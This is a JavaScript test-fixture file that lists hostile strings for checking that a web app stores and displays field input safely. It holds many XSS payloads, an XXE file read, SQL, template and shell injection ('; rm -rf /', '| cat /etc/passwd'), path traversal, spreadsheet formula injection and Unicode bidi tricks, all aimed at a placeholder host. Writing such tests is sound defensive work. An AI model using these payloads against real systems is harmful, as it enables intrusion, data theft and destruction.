// SPDX-License-Identifier: MIT
// What people of ill will write into a field: texts that try to be something else than a text. Some were thought up one by one, some
// are every combination of a few parts. All are the server's to keep and the pages' to show, letter by letter; those at the end are
// the server's to refuse. Whatever runs calls `hit`, and whatever loads asks `elsewhere`, so neither can happen in silence.

const run = 'hit()';
const elsewhere = 'https://elsewhere.invalid';

const tags = [
  `<script>${run}</script>`, `<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script/x>${run}</script\n>`,
  `<script type=module>import('${elsewhere}/x.mjs')</script>`, `<script>/*`, `--><script>${run}</script>`, `<!--<img src="--><img src=x onerror=${run}//">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src="javascript:parent.${run}">`, `<object data="${elsewhere}/x.swf"></object>`,
  `<embed src="${elsewhere}/x">`, `<base href="${elsewhere}/">`, `<meta http-equiv=refresh content="0;url=${elsewhere}/">`, `<link rel=stylesheet href=${elsewhere}/x.css>`,
  `<link rel=preload as=image href=${elsewhere}/x.png>`, `<form action=${elsewhere}/><input name=token><button>ok</button></form>`, `<style>@import "${elsewhere}/x.css";</style>`,
  `<style>*{background:url(${elsewhere}/x)}</style>`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea></textarea><img src=x onerror=${run}>`, `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`,
  `</p></main></body></html><script>${run}</script>`, `<plaintext>`, `<xmp><img src=x onerror=${run}></xmp>`, `<marquee onstart=${run}>rooster</marquee>`, `<dialog open onclose=${run}>ok</dialog>`,
  `<video><source onerror=${run}></video>`, `<audio src=${elsewhere}/a.mp3 autoplay onerror=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`, `<body onload=${run}>`, `<x contenteditable onblur=${run}>lose focus</x>`, `<isindex type=image src=1 onerror=${run}>`,
  `<img src=x onerror=${run}>`, `<img src="x" onerror="${run}"`, `<img/src/onerror=${run}>`, `<img src=x:x onerror\n=${run}>`, `<img src=${elsewhere}/pixel.png>`,
  `<img srcset="${elsewhere}/1.png 1x">`, `<picture><source srcset=${elsewhere}/p><img></picture>`, `<image src=x onerror=${run}>`, `<a href=javascript:${run}>klik</a>`, `<a href="java&#115;cript:${run}">klik</a>`,
  `<a href="${elsewhere}" ping="${elsewhere}/ping" target=_blank>klik</a>`, `<area href=javascript:${run}>`, `<button formaction=javascript:${run}>klik</button>`,
];

const foreign = [
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href=${elsewhere}/x.js /></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`, `<svg><a href="javascript:${run}"><text y=20>klik</text></a></svg>`, `<svg><use href="${elsewhere}/x.svg#x"/></svg>`,
  `<svg><image href="${elsewhere}/x.png"/></svg>`, `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`, `<svg><style><img src=x onerror=${run}></style>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<math href="javascript:${run}">klik</math>`,
  `<math><mi xlink:href="data:x,<script>${run}</script>">`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, `<![CDATA[<script>${run}</script>]]>`, `<!DOCTYPE html>`, `<?php ${run}; ?>`,
];

const breakers = [
  `"><script>${run}</script>`, `'><img src=x onerror=${run}>`, `" onmouseover="${run}`, `' onfocus='${run}' autofocus='`, '` onerror=hit() `', `" style="position:fixed;inset:0" x="`,
  `";${run};//`, `';${run};//`, `\\";${run};//`, `\`;${run};//`, '${hit()}', '`${hit()}`', `</script><script>${run}</script>`, `'-${run}-'`, `"+${run}+"`, `\\x3cscript\\x3e${run}\\x3c/script\\x3e`, `\\u003cimg src=x onerror=${run}\\u003e`,
  `{{constructor.constructor('${run}')()}}`, `{{7*7}}`, '<%= 7*7 %>', '#{7*7}', '*{7*7}', '@{7*7}', '{%raw%}{{x}}{%endraw%}', `[[${run}]]`, '$(id)', '`id`', '; rm -rf /', '| cat /etc/passwd', '&& sleep 9',
  `{"t":"reply","ok":true}`, `"},{"t":"frame","n":1`, `["question","",{"text":"x"}]`, '\\', '\\\\', '\\n', '\\u0000', '\\ud800', '"', '\'', '`', '"""', `' OR '1'='1`, `'; DROP TABLE record; --`, `1; SELECT * FROM record`, `" UNION SELECT 1 --`,
  `}*{background:url(${elsewhere}/c)}`, `expression(${run})`, `;background:url(javascript:${run})`, '/* */ } body { display: none', `@import url(${elsewhere})`, '</', '<', '>', '<>', '<!', '<!--', '-->', '&', '&lt;b&gt;', '&#60;b&#62;', '&#x3C;b&#x3E;', '&amp;amp;', '&nbsp;', '&bogus;',
];

const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `javascript://%0a${run}`, `java script:${run}`, `data:text/html,<script>${run}</script>`, 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==', `vbscript:${run}`, `blob:${elsewhere}/1`, `view-source:${elsewhere}`,
  'file:///etc/passwd', `${elsewhere}/?q=<b>`, '//elsewhere.invalid/x', 'http://elsewhere.invalid@127.0.0.1/', 'https://еlsewhere.invalid', '../../../../etc/passwd', '..\\..\\windows\\win.ini', '/%2e%2e/%2e%2e/etc/passwd', '....//....//etc/passwd', '/proc/self/environ', 'C:\\CON', 'NUL', '~root', '%00', '%0d%0aSet-Cookie: x=1',
  '#/stage', '?code=000000', '/desk#AAAAAAAAAAAAAAAAAAAAAA', 'mailto:x@elsewhere.invalid?bcc=y', 'tel:112',
];

const formulas = ['=1+1', '=cmd|\' /C calc\'!A0', `=HYPERLINK("${elsewhere}","klik")`, '+1+1', '-1+1', '@SUM(1+1)', '=IMPORTXML("https://elsewhere.invalid","//a")', '|calc', '%0A=1+1', '"=1+1"', '0x1F', '1e999', '-0', 'NaN', 'Infinity', '١٢٣', '1/0'];

/** Words that a program may take for its own. */
const namesOfThings = ['null', 'undefined', 'true', 'false', '[object Object]', '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'then', 'length', 'None', 'nil', '{}', '[]', '()', 'on', 'id', 'text', 'dangerouslySetInnerHTML', '{"__html":"<img src=x onerror=hit()>"}', '__html', 'innerHTML', 'document.cookie', 'localStorage.clear()'];

const zalgo = (/** @type {string} */ word, /** @type {number} */ deep) => [...word].map((letter, at) =>
  letter + Array.from({ length: deep }, (_, mark) => String.fromCodePoint(0x300 + ((at * 7 + mark * 5) % 0x6f))).join('')).join('');
const unicode = [
  zalgo('rooster', 4), zalgo('te veel', 12), zalgo('o', 200), 'a\u0301\u0301\u0301e\u0308', '👩‍👩‍👧‍👦 en 🏳️‍🌈 en 👩🏽‍⚕️', '👨‍👩‍👧‍👦'.repeat(8), '🇳🇱🇧🇪🇳', '\u{1F1F3}', '#️⃣*️⃣0️⃣', '\u200dZWJ\u200d', 'on\u200bzicht\u200bbaar', 'zacht\u00adkoppel\u00adteken', '\ufeffbegin', 'w\u2060o\u2060r\u2060d',
  'аdmin (cyrillisch)', 'ＦＵＬＬＷＩＤＴＨ ＜script＞hit()＜/script＞', '＜img src=x onerror=hit()＞', '‹script›hit()‹/script›', '𝓼𝓬𝓻𝓲𝓹𝓽', 'ﬁ ﬀ ﬃ', 'ı İ ſ ß ẞ', 'שלום, מה שלומך?', 'مرحبا بالعالم', 'من 12 إلى 34 <b>x</b>', '\u061cALM\u200eLRM\u200fRLM', 'ไทยไม่มีวรรค'.repeat(12), '漢字'.repeat(100), '𒐫'.repeat(12), '﷽'.repeat(6), '꧁꧂', '\u{E0001}\u{E0068}tag', '\ufffd\ufffd', '\uffff', '\u{10ffff}', 'e\u20dd\u20e3', '\u2028regel\u2029alinea', '\u00a0\u3000breed\u3000',
  'regel\nregel\n\n\nregel', `${'x\n'.repeat(40)}einde`, 'tabel-achtig   met      spaties',
];

const long = [
  'Medezeggenschapsraadverkiezingen'.repeat(8), 'W'.repeat(280), 'i'.repeat(1_100), '<b>'.repeat(90), '&amp;'.repeat(60), '((((('.repeat(50), '.'.repeat(280), '_'.repeat(280), '👩‍👩‍👧‍👦'.repeat(40), `https://elsewhere.invalid/${'a/'.repeat(120)}`, 'ﷺ'.repeat(90), 'a b '.repeat(270), '—'.repeat(200), '"'.repeat(280),
];

const elements = ['img src=x', 'svg', 'details open', 'input autofocus'];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'];
const combined = elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}="${run}">`));

/** Each differs from all others, and none is refused in a field that is long enough. */
export const hostileTexts = [...new Set([...tags, ...foreign, ...breakers, ...addresses, ...formulas, ...namesOfThings, ...unicode, ...long, ...combined])];

/** Turn the text around that stands behind them, ring the bell, end the string. */
export const forbiddenTexts = [
  '\u202etxet\u202c', 'rekening\u202egpj.exe', '\u202aLTR', '\u202bRTL', '\u202dLRO', '\u2066LRI\u2069', '\u2067RLI', '\u2068FSI', 'a\u0000b', '\u0007', 'a\u001b[31mrood', 'a\rb', 'a\tb', '\u007f', '\u0085', '\u009b31m', `<img src=x\u0000 onerror=${run}>`,
];
/** Nothing that leaves ink. */
export const blankTexts = ['', ' ', '\n\n', '\u200b', '\u200d\u200d', '\ufeff', '\u00ad', '\u2800', '\u3000', '\u115f', '\u180e', '\u2028'];

const encoder = new TextEncoder();
/** As much of a text as a field takes: bytes of UTF-8, whole characters, and for most fields one line. */
export function fitted(/** @type {string} */ text, /** @type {number} */ bytesMax, lines = false) {
  let kept = '';
  let bytes = 0;
  for (const point of lines ? text : text.replaceAll('\n', ' ')) {
    bytes += encoder.encode(point).length;
    if (bytes > bytesMax) break;
    kept += point;
  }
  return kept;
}
